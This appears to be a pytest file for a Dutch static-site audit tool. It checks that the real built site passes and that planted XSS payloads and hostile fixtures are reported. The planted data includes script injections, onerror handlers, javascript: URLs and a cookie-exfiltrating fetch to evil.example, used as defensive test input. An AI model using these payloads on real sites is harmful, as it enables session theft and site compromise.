"""`thuisbasis audit`: the real built site passes; planted payloads fail with a Dutch file:line message."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import material
import pytest

from conftest import index_built_site
from thuisbasis.site.audit import (
    MATERIAL_INLINE_SHA256,
    MATERIAL_SCOPE_SCRIPT,
    Finding,
    audit_site,
    csp_script_hashes,
    is_material_inline_script,
    sha256_base64,
    srcset_urls,
)
from thuisbasis.site.vendor import VENDOR_FOLDER

ROOT = Path(__file__).parent.parent
SCRIPTS = ROOT / "docs" / "javascripts"
HOSTILE_FIXTURES = Path(__file__).parent / "fixtures" / "audit"
MATERIAL_TEMPLATES = Path(material.__file__).parent / "templates"
SCOPE_READ = "document.currentScript.dataset.mdScope"  # where Material writes the base URL into its script


@pytest.fixture
def built_site(project_site: Path) -> Path:
    """The project's own site, built once per session (tests/conftest.py); read only."""
    return project_site


@pytest.fixture
def site_copy(built_site: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "site"
    shutil.copytree(built_site, copy)
    return copy


def test_the_real_site_passes_the_command(built_site: Path) -> None:
    """The audit of the real site, as CI runs it (one scan: the command prints what audit_site found)."""
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(built_site)],
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    checked = re.fullmatch(r"Thuisbasis-audit: (\d+) pagina's gecontroleerd: geen problemen\.\n", result.stdout)
    assert checked and int(checked.group(1)) > 100, result.stdout


PLANTED = [
    ("<script>alert(1)</script>", "inline <script> die niet van het thema komt: \"alert(1)\""),
    ("<script src=\"https://evil.example/x.js\"></script>", "laadt iets van een andere host"),
    ("<script src=\"//evil.example/x.js\"></script>", "laadt iets van een andere host"),
    ("<script src=\"../javascripts/evil.js\"></script>", "bestaat niet in de site"),
    ("<script src=\"data:text/javascript,alert(1)\"></script>", "data:-adres in 'src' op <script>"),
    ("<svg><script>alert(1)</script></svg>", "inline <script> die niet van het thema komt"),
    ("<img src=\"x.png\" onerror=\"alert(1)\">", "attribuut 'onerror' op <img>"),
    ("<div ONCLICK=\"alert(1)\">x</div>", "attribuut 'onclick' op <div>"),
    ("<a href=\"javascript:alert(1)\">x</a>", "javascript:-adres in 'href' op <a>"),
    ("<a href=\"  JaVa&#x09;ScRiPt:alert(1)\">x</a>", "javascript:-adres in 'href' op <a>"),
    ("<a href=\"vbscript:msgbox(1)\">x</a>", "vbscript:-adres in 'href' op <a>"),
    ("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "data:-adres in 'href' op <a>"),
    ("<form action=\"javascript:alert(1)\"></form>", "javascript:-adres in 'action' op <form>"),
    ("<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>", "javascript:-adres in 'xlink:href' op <a>"),
    ("<iframe src=\"../index.html\"></iframe>", "element <iframe> is niet toegestaan"),
    ("<object data=\"x.swf\"></object>", "element <object> is niet toegestaan"),
    ("<embed src=\"x.swf\">", "element <embed> is niet toegestaan"),
    ("<base href=\"https://evil.example/\">", "element <base> is niet toegestaan"),
    ("<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com/css?family=Roboto\">", "<link href=\"https://fonts.googleapis.com"),
    ("<link rel=\"preload icon\" href=\"https://evil.example/i.png\">", "laadt iets van een andere host"),
    ("<img src=\"https://tracker.example/p.gif\">", "<img src=\"https://tracker.example/p.gif\"> laadt iets van een andere host"),
    ("<img srcset=\"a.png 1x, https://tracker.example/p.gif 2x\">", "laadt iets van een andere host"),
    ("<video poster=\"https://evil.example/p.jpg\"></video>", "laadt iets van een andere host"),
    ("<audio src=\"https://evil.example/a.mp3\"></audio>", "laadt iets van een andere host"),
    ("<source src=\"//evil.example/v.mp4\">", "laadt iets van een andere host"),
    # Material's original scope script, with code smuggled in where the base URL goes.
    ("<script>" + MATERIAL_SCOPE_SCRIPT.replace(SCOPE_READ, '".",alert(1),"."') + "</script>",
     "inline <script> die niet van het thema komt"),
    # Our scope script, with a base URL that is not a path.
    (f"<script data-md-scope=\"javascript:alert(1)//\">{MATERIAL_SCOPE_SCRIPT}</script>",
     "data-md-scope=\"javascript:alert(1)//\" is geen gewoon pad"),
    ("<script id=\"__config\" type=\"application/json\">{not json</script>", "is geen geldige JSON"),
]


@pytest.mark.parametrize(("payload", "message"), PLANTED, ids=[payload[:40] for payload, _ in PLANTED])
def test_a_planted_payload_is_reported_at_its_line(tmp_path: Path, payload: str, message: str) -> None:
    site_copy = tmp_path / "site"  # a one-page site: fast, and the finding can only come from the payload
    shutil.copytree(SCRIPTS, site_copy / "javascripts")
    planted = site_copy / "geplant" / "index.html"
    planted.parent.mkdir()
    planted.write_text(f"<!doctype html>\n<html lang=\"nl\"><body>\n<p>tekst</p> {payload}\n</body></html>\n",
                       encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    assert len(findings) == 1, findings
    assert findings[0].path == planted and findings[0].line == 3
    assert message in findings[0].message


# One file per trick that an earlier audit let through: file name -> what the finding says. The file is
# put at the root of an otherwise empty site, under its own name (the name decides how it is read).
HOSTILE = {
    "svg-script.svg": "<script> in een SVG- of XML-bestand is niet toegestaan",
    "prefixed-script.svg": "<script> in een SVG- of XML-bestand is niet toegestaan",
    "xhtml-script.xhtml": "<script> in een SVG- of XML-bestand is niet toegestaan",
    "htm-script.htm": "inline <script> die niet van het thema komt",
    "sniffed-without-extension": "inline <script> die niet van het thema komt",
    "utf16-bom.html": "inline <script> die niet van het thema komt",
    "stray-script.js": "script komt niet van het thema, niet van Pagefind en niet uit docs/javascripts/",
    "stray-module.mjs": "script komt niet van het thema, niet van Pagefind en niet uit docs/javascripts/",
    "meta-refresh.html": "<meta http-equiv=\"refresh\"> stuurt door naar een andere host",
    "svg-image.svg": "<image href=\"https://evil.example/p.png\"> laadt iets van een andere host",
    "svg-image-in-html.html": "<image xlink:href=\"//evil.example/p.png\"> laadt iets van een andere host",
    "css-url.css": "CSS laadt \"https://evil.example/p.png\" van een andere host",
    "css-import.css": "CSS laadt \"https://evil.example/x.css\" van een andere host",
    "css-escaped-url.css": "CSS laadt \"//evil.example/p.png\" van een andere host",
    "css-image-set.css": "CSS laadt \"https://evil.example/p.png\" van een andere host",
    "style-block.html": "CSS laadt \"https://evil.example/x.css\" van een andere host",
    "style-attribute.html": "style-attribuut op <div>: CSS laadt \"https://evil.example/p.png\"",
    "svg-style-comment.svg": "<style> bevat '</style' of '<!--'",
    "form-action.html": "<form action=\"https://evil.example/verzamel\"> stuurt gegevens naar een andere host",
    "link-prerender.html": "<link href=\"https://evil.example/\"> laadt iets van een andere host",
    "link-imagesrcset.html": "<link imagesrcset=\"https://evil.example/p.png\"> laadt iets van een andere host",
    "base-href.htm": "element <base> is niet toegestaan",
    "object-data.svg": "element <object> is niet toegestaan",
    "embed-src.xhtml": "element <embed> is niet toegestaan",
    "svg-xlink-javascript.svg": "javascript:-adres in 'x:href' op <a> is niet toegestaan",
    "svg-href-javascript.svg": "javascript:-adres in 'href' op <a> is niet toegestaan",
    "svg-set-href.svg": "<set> verandert 'href'",
    "xml-base.svg": "attribuut 'xml:base' op <svg> is niet toegestaan",
    "comment-abrupt.html": "commentaar met opmaak erin",
    "comment-dashes.html": "commentaar met opmaak erin",
    "comment-bang.html": "commentaar met opmaak erin",
    "comment-conditional.html": "commentaar met opmaak erin",
    "cdata.html": "<![CDATA[ ><script>aler…]> is niet toegestaan",
    "marked-section.html": "opmaak die deze controle niet kan lezen (<![…[)",
    "script-end-in-string.html": "<script> bevat '</script' of '<!--'",
    "doctype-entity.svg": "<!DOCTYPE> met eigen definities (entiteiten) is niet toegestaan",
    "xml-stylesheet.xml": "verwerkingsinstructie <?xml-stylesheet …?> is niet toegestaan",
    "charset.html": "tekenset 'iso-2022-jp' is niet toegestaan",
    "unreadable-tag.html": "\"<x\" is een tag die deze controle niet kan lezen",
}


def test_every_hostile_fixture_is_listed() -> None:
    assert sorted(path.name for path in HOSTILE_FIXTURES.iterdir()) == sorted(HOSTILE)


@pytest.mark.parametrize(("name", "message"), HOSTILE.items(), ids=list(HOSTILE))
def test_a_hostile_file_is_reported(tmp_path: Path, name: str, message: str) -> None:
    site = tmp_path / "site"
    shutil.copytree(SCRIPTS, site / "javascripts")
    shutil.copy(HOSTILE_FIXTURES / name, site / name)
    _, findings = audit_site(site, SCRIPTS)
    assert findings, name
    assert {found.path for found in findings} == {site / name}
    assert any(message in found.message for found in findings), [str(found) for found in findings]


def test_a_hostile_file_fails_the_command(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    shutil.copy(HOSTILE_FIXTURES / "svg-script.svg", site / "logo.svg")
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(site)],
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 1
    assert result.stdout.startswith(f"{(site / 'logo.svg').as_posix()}:2:9: <script> in een SVG- of XML-bestand")


NAMED_LIKE_THEIRS = ["assets/javascripts/bundle.*.min.js", "assets/javascripts/workers/search.*.min.js",
                     "pagefind/pagefind.js", "pagefind/pagefind-worker.js"]


def test_a_file_named_like_a_theme_or_pagefind_script_is_known_by_content(site_copy: Path) -> None:
    """Each of the four replaced in one copy of the real site, scanned once: each is reported on its own."""
    replaced = [next(iter(site_copy.glob(pattern))) for pattern in NAMED_LIKE_THEIRS]
    for script in replaced:
        script.write_text("fetch('https://evil.example/?'+document.cookie)\n", encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    assert all("maar andere inhoud" in found.message for found in findings)
    for pattern, script in zip(NAMED_LIKE_THEIRS, replaced, strict=True):
        owner = "Pagefind" if "pagefind" in pattern else "Material"
        assert Finding(script, 1, 1, f"script heeft de naam van een bestand van {owner}, maar andere inhoud") in findings


def test_a_script_with_a_bundle_like_name_that_material_does_not_ship_is_reported(tmp_path: Path) -> None:
    site = tmp_path / "site"
    (site / "assets" / "javascripts").mkdir(parents=True)
    (site / "assets" / "javascripts" / "bundle.0badc0de.min.js").write_text("alert(1)\n", encoding="utf-8")
    (site / "index.html").write_text('<script src="assets/javascripts/bundle.0badc0de.min.js"></script>\n',
                                     encoding="utf-8")
    _, findings = audit_site(site, SCRIPTS)
    assert [str(found).split(": ", 1)[1] for found in findings] == [
        "script komt niet van het thema, niet van Pagefind en niet uit docs/javascripts/",
        '<script src="assets/javascripts/bundle.0badc0de.min.js"> komt niet van het thema, niet van Pagefind en '
        "niet uit docs/javascripts/",
    ]


def test_css_of_the_real_site_with_a_url_to_another_host_is_reported(site_copy: Path) -> None:
    stylesheet = site_copy / "stylesheets" / "thuisbasis.css"
    stylesheet.write_text(stylesheet.read_text(encoding="utf-8") + "\n.x { background: url(https://evil.example/p.png) }\n",
                          encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    assert [found.path for found in findings] == [stylesheet]


def test_a_finding_is_one_line_whatever_the_page_holds(tmp_path: Path) -> None:
    site = tmp_path / "site"
    site.mkdir()
    (site / "a\nb.html").write_text('<img src="https://evil.example/\n/tmp/x.yaml:1:1: TB000 nep">\n', encoding="utf-8")
    _, findings = audit_site(site, SCRIPTS)
    assert [str(found) for found in findings] == [
        f"{site.as_posix()}/a\\nb.html:1:1: <img src=\"https://evil.example/\\n/tmp/x.yaml:1:1: TB000 nep\"> laadt iets "
        "van een andere host; de site laadt alles zelf"]


@pytest.mark.parametrize(("srcset", "urls"), [
    ("a.png 1x, b.png 2x", ["a.png", "b.png"]),
    ("https://e.example/a,b.png 1x", ["https://e.example/a,b.png"]),
    ("data:image/png;base64,AAA= 1x,https://e.example/p.png 2x", ["data:image/png;base64,AAA=", "https://e.example/p.png"]),
    ("a.png,, https://e.example/p.png", ["a.png", "https://e.example/p.png"]),
    ("a.png,,https://e.example/p.png", ["a.png,,https://e.example/p.png"]),  # one relative URL, as in a browser
    ("a.png (x, y), https://e.example/p.png", ["a.png", "https://e.example/p.png"]),
])
def test_srcset_is_split_as_a_browser_does(srcset: str, urls: list[str]) -> None:
    assert srcset_urls(srcset) == urls


def test_links_to_other_sites_and_local_images_are_fine(tmp_path: Path) -> None:
    site_copy = tmp_path / "site"
    site_copy.mkdir()
    page = site_copy / "geplant.html"
    page.write_text("<a href=\"https://www.rijksoverheid.nl/\">bron</a><a href=\"mailto:info@example.org\">m</a>"
                    "<img src=\"../assets/images/favicon.png\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
                    "<a href=\"#ongeveer-javascript:\">anker</a><link rel=\"canonical\" href=\"https://example.org/\">"
                    "<!doctype html><meta charset=\"UTF-8\"><meta http-equiv=\"refresh\" content=\"0; url=../nieuw/\">"
                    "<link rel=\"alternate\" type=\"application/atom+xml\" href=\"https://example.org/feed.xml\">"
                    "<blockquote cite=\"https://example.org/bron\">citaat</blockquote><form action=\"zoeken/\"></form>"
                    "<div style=\"width: 40%; background: url(../assets/images/favicon.png)\">balk</div>",
                    encoding="utf-8")
    (site_copy / "logo.svg").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><style>.a{fill:red}</style><image xlink:href="p.png"/>'
        '<a href="https://www.rijksoverheid.nl/"><text>bron</text></a></svg>\n', encoding="utf-8")
    (site_copy / "stijl.css").write_text(
        '@import "basis.css";\n/* url(https://example.org/) in commentaar */\n.a::after { content: "//"; }\n'
        ".b { background: url(\"data:image/svg+xml;charset=utf-8,<svg xmlns='http://www.w3.org/2000/svg'/>\") }\n",
        encoding="utf-8")
    assert audit_site(site_copy, SCRIPTS) == (2, [])


def test_a_payload_in_a_real_case_page_fails_the_command(site_copy: Path) -> None:
    page = next(iter(sorted((site_copy / "casussen").glob("*/index.html"))))
    html = page.read_text(encoding="utf-8")
    line = html[: html.index("<h1")].count("\n") + 1
    page.write_text(html.replace("<h1", "<img src=x onerror=alert(document.cookie)><h1", 1), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(site_copy)],
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 1
    assert f"{page.as_posix()}:{line}:" in result.stdout
    assert "attribuut 'onerror' op <img> is niet toegestaan" in result.stdout
    assert result.stdout.rstrip().endswith("gecontroleerd: 1 probleem.")


def test_a_changed_own_script_is_reported(site_copy: Path) -> None:
    script = site_copy / "javascripts" / "zoeken.js"
    script.write_text(script.read_text(encoding="utf-8") + "\nfetch('https://evil.example/?'+document.cookie)\n",
                      encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    assert findings and all("verschilt van docs/javascripts/zoeken.js" in found.message for found in findings)


def test_the_vendor_validator_is_accepted_only_as_npm_installed_it(site_copy: Path) -> None:
    validator = site_copy / VENDOR_FOLDER / "validate.js"
    _, findings = audit_site(site_copy, SCRIPTS)
    assert validator.is_file() and not any(VENDOR_FOLDER in str(found.path) for found in findings)
    validator.write_text(validator.read_text(encoding="utf-8") + "\nfetch('https://evil.example/')\n", encoding="utf-8")
    (site_copy / VENDOR_FOLDER / "extra.js").write_text("alert(1)\n", encoding="utf-8")
    _, findings = audit_site(site_copy, SCRIPTS)
    messages = {found.path.name: found.message for found in findings}
    assert messages == {"validate.js": "script heeft de naam van een bestand uit een npm-pakket, maar andere inhoud",
                        "extra.js": "script staat in de map voor npm-pakketten, maar komt niet uit het pakket"}


def test_missing_site_is_a_usage_error(tmp_path: Path) -> None:
    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(tmp_path / "nergens")],
                            capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 2 and "geen map" in result.stderr


def material_inline_scripts() -> dict[str, str]:
    """Material's inline scripts, read from the installed templates."""
    scripts = {}
    for name in ("base.html", "palette.html", "content.html"):
        text = (MATERIAL_TEMPLATES / "partials" / "javascripts" / name).read_text(encoding="utf-8")
        for number, script in enumerate(re.findall(r"<script>(.*?)</script>", text, re.S)):
            scripts[f"{name}#{number}"] = script
    return scripts


def test_known_inline_scripts_match_the_installed_material() -> None:
    """A Material upgrade that changes an inline script fails here, not in visitors' browsers."""
    scripts = material_inline_scripts()
    assert scripts["base.html#0"] == MATERIAL_SCOPE_SCRIPT.replace(SCOPE_READ, '"{{ config.extra.scope | d(base_url) }}"')
    ours = (ROOT / "overrides" / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
    assert ours.endswith(f'<script data-md-scope="{{{{ config.extra.scope | d(base_url) }}}}">{MATERIAL_SCOPE_SCRIPT}</script>\n')
    assert scripts["palette.html#0"] and scripts["content.html#1"]
    assert set(MATERIAL_INLINE_SHA256) == {sha256_base64(scripts["palette.html#0"]), sha256_base64(scripts["content.html#1"])}
    # The tabs script (content.html#0) is only rendered with pymdownx.tabbed's content.tabs.link; we use neither.
    assert not is_material_inline_script(scripts["content.html#0"])


def test_every_inline_script_in_the_site_has_its_hash_in_the_csp(built_site: Path) -> None:
    allowed = set(csp_script_hashes())
    for page in built_site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        for attributes, script in re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S):
            if "src=" not in attributes and "application/json" not in attributes:
                assert sha256_base64(script) in allowed, page
        csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html)
        assert csp, f"{page}: geen Content-Security-Policy"
        listed = set(re.findall(r"'sha256-([A-Za-z0-9+/=]+)'", csp.group(1)))
        assert listed == allowed, page


def test_the_site_published_under_a_sub_path_passes_too(tmp_path: Path) -> None:
    """As pages.yml builds it: the 404 page then has a root path as its scope, and needs no other hash."""
    out = tmp_path / "site"
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(out)],
                            capture_output=True, text=True, cwd=ROOT, timeout=300,
                            env={**os.environ, "NO_MKDOCS_2_WARNING": "1",
                                 "THUISBASIS_SITE_URL": "https://example.org/thuisbasis/",
                                 "THUISBASIS_REDACTIE_EMAIL": "redactie@example.org"})
    assert result.returncode == 0, result.stderr
    indexed = index_built_site(out, cwd=ROOT)  # the next step in pages.yml: Pagefind's scripts are audited too
    assert indexed.returncode == 0, indexed.stderr
    assert 'data-md-scope="/thuisbasis/"' in (out / "404.html").read_text(encoding="utf-8")
    # The published site names the editors' mailbox in every footer and cites a case by its full address.
    case = next((out / "casussen").glob("*/index.html"))
    html = case.read_text(encoding="utf-8")
    assert 'Contact: <a href="mailto:redactie@example.org">redactie@example.org</a>' in html
    assert f'<a href="https://example.org/thuisbasis/casussen/{case.parent.name}/">' in html
    assert audit_site(out, SCRIPTS, "https://example.org/thuisbasis/")[1] == []
    assert audit_site(out, SCRIPTS)[1] != []  # read as a site at the root, the 404 page's scripts are elsewhere
    test_every_inline_script_in_the_site_has_its_hash_in_the_csp(out)
